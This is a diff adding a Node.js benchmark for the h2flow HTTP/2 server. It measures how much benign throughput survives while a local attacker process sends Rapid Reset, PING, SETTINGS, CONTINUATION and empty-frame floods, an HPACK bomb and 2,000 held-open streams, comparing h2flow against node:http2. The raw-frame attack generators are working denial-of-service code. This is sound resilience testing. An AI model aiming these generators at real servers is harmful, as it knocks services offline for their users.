@@ -1,0 +1,232 @@
+// What an attack costs everyone else: a benign `h2load -c2 -m10` client (12-byte in-memory response)
+// measured with no attack and while one attacker hammers the same server from another loopback address
+// (127.0.0.2), reconnecting whenever it is closed: Rapid Reset, PING / SETTINGS / CONTINUATION / empty-DATA
+// floods, an HPACK bomb, and 2,000 concurrent streams held open. h2flow's serve() (with its defaults, the
+// abuse guard included) against node:http2's compat server, each in its own child process; the attacker
+// runs in a third. Each phase lasts DURATION seconds (default 3), so the whole bench takes about two minutes.
+// Prints per attack: benign req/s and p99 latency, and the req/s share of the no-attack rate, as JSON ratio
+// lines. Figures under load (other processes, this attacker) are noisy: compare within one run only.
+// `node bench/attacks.bench.mjs --serve=NAME` / `--attack=NAME --port=P --seconds=S` run one side alone.
+import { spawn } from 'node:child_process';
+import { connect as netConnect } from 'node:net';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { report } from './_report.mjs';
+
+const DURATION = Number(process.env.H2FLOW_BENCH_ATTACK_SECONDS ?? 3);
+const HELLO = 'hello world\n';
+
+// --- servers ---
+
+async function serveH2flow() {
+  const { serve } = await import('../dist/node.mjs');
+  const server = serve(() => new Response(HELLO, { headers: { 'content-type': 'text/plain' } }), { port: 0, hostname: '127.0.0.1', onListen: () => undefined });
+  return (await server.listening).port;
+}
+
+async function serveNode() {
+  const http2 = await import('node:http2');
+  const server = http2.createServer((req, res) => {
+    res.on('error', () => undefined);
+    res.setHeader('content-type', 'text/plain');
+    res.end(HELLO);
+  });
+  server.on('sessionError', () => undefined);
+  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return server.address().port;
+}
+
+const SERVERS = { h2flow: serveH2flow, 'node:http2': serveNode };
+
+// --- the attacker: raw frames ---
+
+function frame(type, flags, streamId, payload = new Uint8Array(0)) {
+  const b = new Uint8Array(9 + payload.length);
+  b[0] = payload.length >>> 16;
+  b[1] = (payload.length >>> 8) & 0xff;
+  b[2] = payload.length & 0xff;
+  b[3] = type;
+  b[4] = flags;
+  new DataView(b.buffer).setUint32(5, streamId);
+  b.set(payload, 9);
+  return b;
+}
+const concat = (...parts) => Buffer.concat(parts.map((p) => Buffer.from(p)));
+const PREFACE = concat(Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(0x4, 0, 0));
+// :method GET, :scheme http, :path /, :authority localhost (static-table references and one literal).
+const REQUEST_BLOCK = concat([0x82, 0x86, 0x84, 0x01, 9], Buffer.from('localhost'));
+const u32 = (n) => {
+  const b = new Uint8Array(4);
+  new DataView(b.buffer).setUint32(0, n);
+  return b;
+};
+
+/** Each attack: bytes for one connection after the preface, as a function of a batch counter. */
+const ATTACKS = {
+  'rapid reset': (state) => {
+    const parts = [];
+    for (let i = 0; i < 100; i++) {
+      const id = (state.next += 2);
+      parts.push(frame(0x1, 0x5, id, REQUEST_BLOCK), frame(0x3, 0, id, u32(0x8)));
+    }
+    return concat(...parts);
+  },
+  'PING flood': () => concat(...Array.from({ length: 200 }, () => frame(0x6, 0, 0, new Uint8Array(8)))),
+  'SETTINGS flood': () => concat(...Array.from({ length: 200 }, () => frame(0x4, 0, 0, concat([0, 4], u32(65535))))),
+  'CONTINUATION flood': (state) => {
+    if (!state.opened) {
+      state.opened = true;
+      return concat(frame(0x1, 0, 1, REQUEST_BLOCK), ...Array.from({ length: 100 }, () => frame(0x9, 0, 1, new Uint8Array(16))));
+    }
+    return concat(...Array.from({ length: 100 }, () => frame(0x9, 0, 1, new Uint8Array(16))));
+  },
+  'empty frames': (state) => {
+    if (!state.opened) {
+      state.opened = true;
+      return concat(frame(0x1, 0x4, 1, REQUEST_BLOCK), ...Array.from({ length: 200 }, () => frame(0x0, 0, 1)));
+    }
+    return concat(...Array.from({ length: 200 }, () => frame(0x0, 0, 1)));
+  },
+  'HPACK bomb': (state) => {
+    // One 4 KiB table entry, then 16,000 references to it: ~64 MiB decoded from a 16 KiB block.
+    const literal = concat([0x40, 0x01, 0x78, 0x7f, 0xa1, 0x1f], Buffer.alloc(4000, 0x61));
+    const id = (state.next += 2);
+    return frame(0x1, 0x5, id, concat(REQUEST_BLOCK, literal, Buffer.alloc(12000, 0xbe)));
+  },
+  '2000 concurrent streams': (state) => {
+    if ((state.count = (state.count ?? 0) + 100) > 2000) return null;
+    return concat(...Array.from({ length: 100 }, () => frame(0x1, 0x4, (state.next += 2), REQUEST_BLOCK)));
+  },
+};
+
+/** Attacks `port` for `seconds`, reconnecting whenever closed; prints how many connections it made. */
+async function attack(name, port, seconds) {
+  const make = ATTACKS[name];
+  const deadline = Date.now() + seconds * 1000;
+  let connections = 0;
+  while (Date.now() < deadline) {
+    connections++;
+    await new Promise((resolve) => {
+      const socket = netConnect({ port, host: '127.0.0.1', localAddress: '127.0.0.2' });
+      const state = { next: -1, opened: false };
+      const timer = setTimeout(() => socket.destroy(), Math.max(0, deadline - Date.now()));
+      const pump = () => {
+        while (!socket.destroyed && Date.now() < deadline) {
+          const bytes = make(state);
+          if (bytes === null) return; // holds what it opened until closed
+          if (!socket.write(bytes)) return void socket.once('drain', pump);
+        }
+      };
+      socket.on('connect', () => {
+        socket.write(PREFACE);
+        pump();
+      });
+      socket.on('data', () => undefined);
+      socket.on('error', () => undefined);
+      socket.on('close', () => {
+        clearTimeout(timer);
+        // A refused connection closes at once: do not spin faster than the server can refuse.
+        setTimeout(resolve, 1);
+      });
+    });
+  }
+  console.log(JSON.stringify({ attack: name, connections }));
+}
+
+// --- measuring ---
+
+function run(cmd, args) {
+  return new Promise((resolve) => {
+    const child = spawn(cmd, args, { stdio: ['ignore', 'pipe', 'pipe'] });
+    let out = '';
+    child.stdout.on('data', (d) => (out += d));
+    child.stderr.on('data', (d) => (out += d));
+    child.on('close', () => resolve(out));
+  });
+}
+
+/** The benign client for DURATION seconds: { reqPerSec, p99Ms }. */
+async function benign(port) {
+  const dir = mkdtempSync(join(tmpdir(), 'h2flow-attacks-'));
+  const log = join(dir, 'log.tsv');
+  try {
+    const out = await run('h2load', ['-c', '2', '-m', '10', '-D', String(DURATION), `--log-file=${log}`, `http://127.0.0.1:${port}/`]);
+    const m = /finished in [\d.]+m?s, ([\d.]+) req\/s/.exec(out);
+    const times = readFileSync(log, 'utf8')
+      .split('\n')
+      .filter(Boolean)
+      .map((line) => line.split('\t'))
+      .filter((c) => c[1] === '200')
+      .map((c) => Number(c[2]) / 1000)
+      .sort((a, b) => a - b);
+    const p99 = times.length === 0 ? Infinity : times[Math.min(times.length - 1, Math.floor(times.length * 0.99))];
+    return { reqPerSec: m === null ? 0 : Number(m[1]), p99Ms: p99 };
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+}
+
+function startChild(args, ready) {
+  const child = spawn(process.execPath, [new URL(import.meta.url).pathname, ...args], { stdio: ['ignore', 'pipe', 'inherit'] });
+  let text = '';
+  const exited = new Promise((resolve) => child.once('exit', () => resolve(text)));
+  return new Promise((resolve, reject) => {
+    child.stdout.on('data', (d) => {
+      text += d;
+      const m = ready === null ? null : ready.exec(text);
+      if (m) resolve({ match: m, exited, stop: () => (child.kill('SIGINT'), exited) });
+    });
+    if (ready === null) resolve({ match: null, exited, stop: () => (child.kill('SIGINT'), exited) });
+    child.once('exit', (code) => ready !== null && reject(new Error(`${args.join(' ')} exited (${code}) early`)));
+  });
+}
+
+async function measureServer(name) {
+  const server = await startChild([`--serve=${name}`], /port (\d+)/);
+  const port = Number(server.match[1]);
+  const results = {};
+  try {
+    await benign(port); // warm-up
+    results['no attack'] = await benign(port);
+    console.log(`${name}, no attack: ${Math.round(results['no attack'].reqPerSec)} req/s, p99 ${results['no attack'].p99Ms.toFixed(1)} ms`);
+    for (const attackName of Object.keys(ATTACKS)) {
+      const attacker = await startChild([`--attack=${attackName}`, `--port=${port}`, `--seconds=${DURATION + 1}`], null);
+      await new Promise((r) => setTimeout(r, 500));
+      const r = await benign(port);
+      const text = await attacker.exited;
+      r.connections = Number(/"connections":(\d+)/.exec(text)?.[1] ?? 0);
+      results[attackName] = r;
+      console.log(`${name}, ${attackName}: ${Math.round(r.reqPerSec)} req/s, p99 ${r.p99Ms.toFixed(1)} ms, attacker connections ${r.connections}`);
+      await new Promise((res) => setTimeout(res, 300));
+    }
+  } finally {
+    await server.stop();
+  }
+  return results;
+}
+
+const serveArg = process.argv.find((a) => a.startsWith('--serve='));
+const attackArg = process.argv.find((a) => a.startsWith('--attack='));
+if (serveArg !== undefined) {
+  const name = serveArg.slice('--serve='.length);
+  const port = await SERVERS[name]();
+  process.on('SIGINT', () => process.exit(0));
+  console.log(`${name} listening on port ${port}`);
+} else if (attackArg !== undefined) {
+  const arg = (k) => process.argv.find((a) => a.startsWith(`--${k}=`))?.slice(k.length + 3);
+  await attack(attackArg.slice('--attack='.length), Number(arg('port')), Number(arg('seconds')));
+  process.exit(0);
+} else {
+  console.log(`(each phase ${DURATION} s; figures taken on a loaded machine are noisy)`);
+  const ours = await measureServer('h2flow');
+  const theirs = await measureServer('node:http2');
+  for (const phase of Object.keys(ours)) {
+    report(`benign req/s, ${phase}`, 'req/s', ours[phase].reqPerSec, 'node:http2', theirs[phase].reqPerSec);
+    report(`benign p99, ${phase}`, 'ms', ours[phase].p99Ms, 'node:http2', theirs[phase].p99Ms);
+    if (phase !== 'no attack') {
+      const share = (r, base) => (100 * r.reqPerSec) / base.reqPerSec;
+      report(`benign share of the no-attack rate, ${phase}`, '%', share(ours[phase], ours['no attack']), 'node:http2', share(theirs[phase], theirs['no attack']));
+    }
+  }
+}
